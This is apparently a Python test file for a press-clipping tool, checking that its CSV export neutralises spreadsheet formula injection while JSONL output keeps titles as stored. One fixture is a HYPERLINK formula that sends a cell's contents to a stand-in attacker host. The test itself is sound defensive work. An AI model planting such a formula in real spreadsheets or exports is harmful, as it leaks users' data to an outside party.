"""The export formats themselves, whatever asked for them (CLI or web page)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

from presswatch.export import export_text
from presswatch.storage.records import ClippingRecord

FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1, "Click for the full story")'


def _clipping(title: str, author: str | None, text: str) -> ClippingRecord:
    return ClippingRecord(
        id=3,
        url="https://gazette.example/a",
        canonical_url="https://gazette.example/a",
        source="gazette",
        title=title,
        author=author,
        published=None,
        fetched=datetime(2026, 11, 29, 9, 0, tzinfo=UTC),
        language="en",
        site_name=None,
        description=None,
        image=None,
        text=text,
        word_count=3,
        duplicate_of=None,
        topics=("harbour",),
    )


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text() -> None:
    clippings = [
        _clipping(FORMULA_TITLE, "@handle", "-5% for the port; +2 ships\n=SUM(A1:A9)"),
        _clipping("Harbour dredging plan", "Zoë Müller", "The harbour board voted."),
    ]
    rows = list(csv.DictReader(io.StringIO("".join(export_text(clippings, "csv")))))
    assert rows[0]["title"] == "'" + FORMULA_TITLE
    assert rows[0]["author"] == "'@handle"
    assert rows[0]["text"] == "'-5% for the port; +2 ships\n=SUM(A1:A9)"
    # everything else as stored: ordinary text, numbers, URLs
    assert rows[1]["title"] == "Harbour dredging plan"
    assert rows[1]["author"] == "Zoë Müller"
    assert rows[1]["id"] == "3"
    assert rows[1]["url"] == "https://gazette.example/a"
    # JSON is data, not a spreadsheet: there the title stays exactly as stored
    record = json.loads("".join(export_text(clippings[:1], "jsonl")))
    assert record["title"] == FORMULA_TITLE
